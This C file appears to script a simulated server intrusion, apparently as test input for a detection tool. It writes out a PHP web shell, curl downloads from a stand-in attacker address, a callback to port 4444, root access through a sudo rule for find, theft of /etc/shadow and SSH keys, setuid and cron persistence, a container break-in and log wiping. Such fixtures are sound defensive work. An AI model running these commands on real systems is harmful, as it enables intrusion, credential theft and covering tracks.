/* SPDX-License-Identifier: Apache-2.0 */
#include <errno.h>

#include "script.h"

#define INTRUDER   ((struct address){ "203.0.113.66", 51820 })
#define DROP_SITE  ((struct address){ "203.0.113.99", 80 })
#define HOME_BASE  ((struct address){ "203.0.113.99", 4444 })
#define SHOP       ((struct address){ MACHINE_IP, 80 })
#define LOCAL_PORT ((struct address){ MACHINE_IP, (uint16_t)(32768 + w->now % 28000) })
#define TOOL       "/tmp/.font-unix/kdevtmp"

void a_request_reaches_the_hole(struct world *w)
{
	struct proc *nginx = proc_named(w, "nginx"), *php = proc_named(w, "php-fpm"), *shell;
	int client = accepts(w, nginx, INTRUDER, SHOP);
	int upstream, request, pipe;

	receives(w, nginx, client,
		 "POST /upload.php?cmd=id HTTP/1.1\r\nHost: shop.example.com\r\n\r\n");
	upstream = connects_unix(w, nginx, PHP_SOCKET);
	request = accepts_unix(w, php, PHP_SOCKET);
	sends(w, nginx, upstream, "SCRIPT_FILENAME/var/www/html/upload.php");
	reads(w, php, request, "SCRIPT_FILENAME/var/www/html/upload.php");
	reads_file(w, php, "/var/www/html/upload.php", "<?php system($_GET['cmd']);");
	pipe = makes_pipe(w, php);
	shell = forks(w, php);
	duplicates(w, shell, pipe + 1, 1);
	changes_directory(w, shell, "/var/www/html");
	executes(w, shell, "/bin/sh", ARGV("sh", "-c", "id; uname -a; cat /etc/passwd; sh"));
	closes(w, php, pipe + 1);
	reads(w, php, pipe, "uid=33(www-data) gid=33(www-data)\n");
}

void the_intruder_looks_around(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *cat;

	runs(w, shell, "/usr/bin/id", ARGV("id"));
	runs(w, shell, "/usr/bin/uname", ARGV("uname", "-a"));
	cat = starts(w, shell, "/usr/bin/cat", ARGV("cat", "/etc/passwd", "/etc/shadow"));
	reads_file(w, cat, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
	fails_to_open(w, cat, "/etc/shadow", FILE_FLAGS_O_RDONLY, EACCES);
	writes(w, cat, 2, "cat: /etc/shadow: Permission denied\n");
	exits(w, cat, 1);
}

void the_intruder_fetches_a_tool(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *curl;
	int site, file;

	makes_directory(w, shell, "/tmp/.font-unix");
	curl = starts(w, shell, "/usr/bin/curl",
		      ARGV("curl", "-s", "-o", TOOL, "http://203.0.113.99/k"));
	site = connects(w, curl, LOCAL_PORT, DROP_SITE);
	sends(w, curl, site, "GET /k HTTP/1.1\r\nHost: 203.0.113.99\r\n\r\n");
	pause_ms(w, 60);
	receives(w, curl, site,
		 "HTTP/1.1 200 OK\r\n\r\n\x7f"
		 "ELF");
	file = opens(w, curl, TOOL, FILE_FLAGS_O_WRONLY | FILE_FLAGS_O_CREAT | FILE_FLAGS_O_TRUNC,
		     0644);
	writes(w, curl, file,
	       "\x7f"
	       "ELF\x02\x01\x01");
	closes(w, curl, file);
	closes(w, curl, site);
	exits(w, curl, 0);
	changes_mode(w, starts(w, shell, "/usr/bin/chmod", ARGV("chmod", "755", TOOL)), TOOL, 0755);
	exits(w, proc_named(w, "chmod"), 0);
}

void the_tool_calls_home(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *tool = forks(w, shell);
	int base;

	executes_static(w, tool, TOOL, ARGV("[kdevtmpfs]"));
	becomes_session_leader(w, tool, 0);
	base = connects(w, tool, LOCAL_PORT, HOME_BASE);
	sends(w, tool, base, "shop-1 www-data\n");
	pause_ms(w, 400);
	receives(w, tool, base, "sudo -l\n");
}

/* The rule that lets backups run find as root was meant well. */
void the_intruder_becomes_root(struct world *w)
{
	struct proc *tool = proc_named(w, "kdevtmp"), *sudo, *find, *shell;

	sudo = starts(w, tool, "/usr/bin/sudo",
		      ARGV("sudo", "-n", "find", "/etc/hostname", "-exec", "/bin/sh", "-i", ";"));
	becomes_user(w, sudo, 0, 0);
	reads_file(w, sudo, "/etc/sudoers.d/backup",
		   "www-data ALL=(root) NOPASSWD: /usr/bin/find\n");
	find = starts(w, sudo, "/usr/bin/find",
		      ARGV("find", "/etc/hostname", "-exec", "/bin/sh", "-i", ";"));
	looks_at(w, find, "/etc/hostname", 0);
	shell = forks(w, find);
	executes(w, shell, "/bin/sh", ARGV("/bin/sh", "-i"));
}

void the_intruder_collects_passwords(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *tar;

	tar = starts(w, shell, "/usr/bin/tar",
		     ARGV("tar", "czf", "/tmp/.font-unix/a", "/etc/shadow", "/home/alice/.ssh"));
	reads_file(w, tar, "/etc/shadow", "root:*:19778:0:99999:7:::\n");
	reads_file(w, tar, "/home/alice/.ssh/id_ed25519", "-----BEGIN OPENSSH");
	writes_file(w, tar, "/tmp/.font-unix/a", FILE_FLAGS_O_CREAT | FILE_FLAGS_O_TRUNC,
		    "\x1f\x8b");
	exits(w, tar, 0);
}

void the_intruder_settles_in(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *cp;

	cp = starts(w, shell, "/usr/bin/cp", ARGV("cp", TOOL, "/usr/bin/systemd-udev"));
	reads_file(w, cp, TOOL,
		   "\x7f"
		   "ELF\x02\x01\x01");
	writes_file(w, cp, "/usr/bin/systemd-udev", FILE_FLAGS_O_CREAT | FILE_FLAGS_O_EXCL,
		    "\x7f"
		    "ELF\x02\x01\x01");
	exits(w, cp, 0);
	changes_mode(
		w,
		starts(w, shell, "/usr/bin/chmod", ARGV("chmod", "4755", "/usr/bin/systemd-udev")),
		"/usr/bin/systemd-udev", CHMOD_MODE_S_ISUID | 0755);
	exits(w, proc_named(w, "chmod"), 0);
	writes_file(w, shell, "/etc/cron.d/udev-settle", FILE_FLAGS_O_CREAT | FILE_FLAGS_O_TRUNC,
		    "*/5 * * * * root /usr/bin/systemd-udev\n");
}

/* docker exec: the client asks the daemon, the shim starts runc, runc puts the shell inside. */
void the_intruder_enters_the_container(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *shim = proc_named(w, "containerd-shim");
	struct proc *docker, *runc, *inside, *cat, *curl;
	int engine, site;

	docker = starts(w, shell, "/usr/bin/docker",
			ARGV("docker", "exec", "-it", "shop-redis", "sh"));
	engine = connects_unix(w, docker, DOCKER_SOCKET);
	sends(w, docker, engine, "POST /v1.44/containers/shop-redis/exec HTTP/1.1\r\n");
	pause_ms(w, 25);
	runc = forks(w, shim);
	executes_static(w, runc, "/usr/bin/runc",
			ARGV("runc", "--root", "/run/docker/runtime-runc/moby", "exec", "--tty"));
	inside = forks_into(w, runc, shim, &place_container);
	becomes_session_leader(w, inside, TTY(1));
	executes(w, inside, "/bin/sh", ARGV("sh"));
	exits(w, runc, 0);

	pause_ms(w, 2500);
	cat = starts(w, inside, "/bin/cat", ARGV("cat", "/etc/shadow"));
	reads_file(w, cat, "/etc/shadow", "root:*:19778:0:99999:7:::\n");
	exits(w, cat, 0);
	curl = starts(w, inside, "/usr/bin/curl",
		      ARGV("curl", "-so", "/usr/local/bin/pg-agent", "http://203.0.113.99/k"));
	site = connects(w, curl, (struct address){ CONTAINER_IP, 40122 }, DROP_SITE);
	sends(w, curl, site, "GET /k HTTP/1.1\r\nHost: 203.0.113.99\r\n\r\n");
	writes_file(w, curl, "/usr/local/bin/pg-agent", FILE_FLAGS_O_CREAT | FILE_FLAGS_O_TRUNC,
		    "\x7f"
		    "ELF\x02\x01\x01");
	closes(w, curl, site);
	exits(w, curl, 0);
	runs(w, inside, "/usr/local/bin/pg-agent", ARGV("pg-agent", "-d"));
	exits(w, inside, 0);
	closes(w, docker, engine);
	exits(w, docker, 0);
}

void the_intruder_cleans_up(struct world *w)
{
	struct proc *shell = proc_named(w, "sh"), *rm;

	writes_file(w, shell, "/var/log/nginx/access.log", FILE_FLAGS_O_TRUNC, "");
	rm = starts(w, shell, "/usr/bin/rm", ARGV("rm", "-f", "/root/.bash_history", TOOL));
	removes(w, rm, "/root/.bash_history");
	removes(w, rm, TOOL);
	exits(w, rm, 0);
	exits(w, shell, 0);
	exits(w, proc_named(w, "find"), 0);
	exits(w, proc_named(w, "sudo"), 0);
	exits(w, proc_named(w, "sh"), 0);
}
